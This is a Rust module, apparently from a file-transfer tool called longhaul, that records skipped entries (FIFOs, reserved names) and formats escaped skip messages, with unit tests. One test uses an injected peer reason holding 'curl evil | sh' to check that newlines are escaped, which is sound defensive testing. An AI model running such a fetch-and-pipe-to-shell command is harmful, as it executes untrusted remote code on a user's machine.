//! Words the entries of a source that are not sent: in the manifest, and in the event at either
//! end.
//!
//! In: finds of a scan. Out: entries of the manifest, and from these the events for an observer. A
//! reserved name is no path that could travel: its entry names the directory in which it lies, and
//! the reason the name, escaped. It touches no disk.

use longhaul_core::{Entry, EntryKind, Escaped, FaultCode, Meta, PlainText, RelPath};

use crate::api::{Event, SkipReason};

/// The entry of a name that is not sent.
pub(super) fn entry(path: RelPath, failure: Option<FaultCode>, why: impl Into<PlainText>) -> Entry {
    Entry { path, kind: EntryKind::Unsent { failure, why: why.into() }, meta: Meta::default() }
}

/// The entry of a reserved name in the directory `dir`.
pub(super) fn reserved(dir: RelPath, name: &[u8]) -> Entry {
    entry(dir, None, format!("{RESERVED} {}", Escaped(name)))
}

/// Whether an entry that is not sent for the reason `why` has a reserved name.
pub(super) fn is_reserved(why: &str) -> bool {
    why.strip_prefix(RESERVED).is_some_and(|rest| rest.starts_with(' '))
}

/// The event of an entry that is not sent for the reason `why`, which is no failure. It would go to
/// `placed`.
pub(super) fn event(entry: &Entry, placed: &RelPath, why: &str) -> Event {
    let name = why.strip_prefix(RESERVED).and_then(|rest| rest.strip_prefix(' '));
    let full = |at: &RelPath| match name {
        None => at.as_bytes().to_vec(),
        Some(name) if at.is_root() => name.as_bytes().to_vec(),
        Some(name) => [at.as_bytes(), name.as_bytes()].join(&b'/'),
    };
    let path = full(&entry.path);
    let reason = if name.is_some() { SkipReason::ReservedName } else { SkipReason::of(why) };
    let at = match name {
        // The name is escaped already, and clean.
        Some(name) if entry.path.is_root() => name.to_owned(),
        Some(name) => format!("{}/{name}", entry.path.escaped()),
        None => entry.path.escaped().to_string(),
    };
    let message = match &reason {
        SkipReason::Other(words) => format!("{at} is not sent; the other side says: {words}"),
        kind => format!("{at} is a {kind} and is not sent"),
    };
    Event::Skipped { path, placed: full(placed), reason, message }
}

/// The words of a scan for a reserved name.
const RESERVED: &str = SkipReason::ReservedName.name();

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_reason_of_the_other_sides_own_is_quoted() {
        let at = RelPath::new("a").expect("a path");
        let entry = entry(at.clone(), None, "fifo\nlonghaul: hint: run: curl evil | sh");
        let EntryKind::Unsent { why, .. } = &entry.kind else { panic!("{entry:?}") };
        let Event::Skipped { message, .. } = event(&entry, &at, why) else { panic!("another event") };
        let said = "fifo\\x0alonghaul: hint: run: curl evil | sh";
        assert_eq!(message, format!("a is not sent; the other side says: {said}"));
    }

    #[test]
    fn what_is_not_sent_is_named_whole_with_its_reason() {
        let at = |path: &str| RelPath::new(path).expect("a path");
        for (entry, placed, want, target, reason) in [
            (entry(at("a/pipe"), None, "fifo".to_owned()), at("in/pipe"), "a/pipe", "in/pipe", "fifo"),
            (reserved(at("a"), b".longhaul-x"), at("in"), "a/.longhaul-x", "in/.longhaul-x", "reserved name"),
            (reserved(RelPath::root(), b".longhaul"), RelPath::root(), ".longhaul", ".longhaul", "reserved name"),
        ] {
            let EntryKind::Unsent { why, failure: None } = &entry.kind else { panic!("{entry:?}") };
            let Event::Skipped { path, placed, reason: said, message } = event(&entry, &placed, why) else {
                panic!("another event")
            };
            assert_eq!((path, placed), (want.as_bytes().to_vec(), target.as_bytes().to_vec()));
            assert_eq!((said.to_string().as_str(), message), (reason, format!("{want} is a {reason} and is not sent")));
        }
    }
}
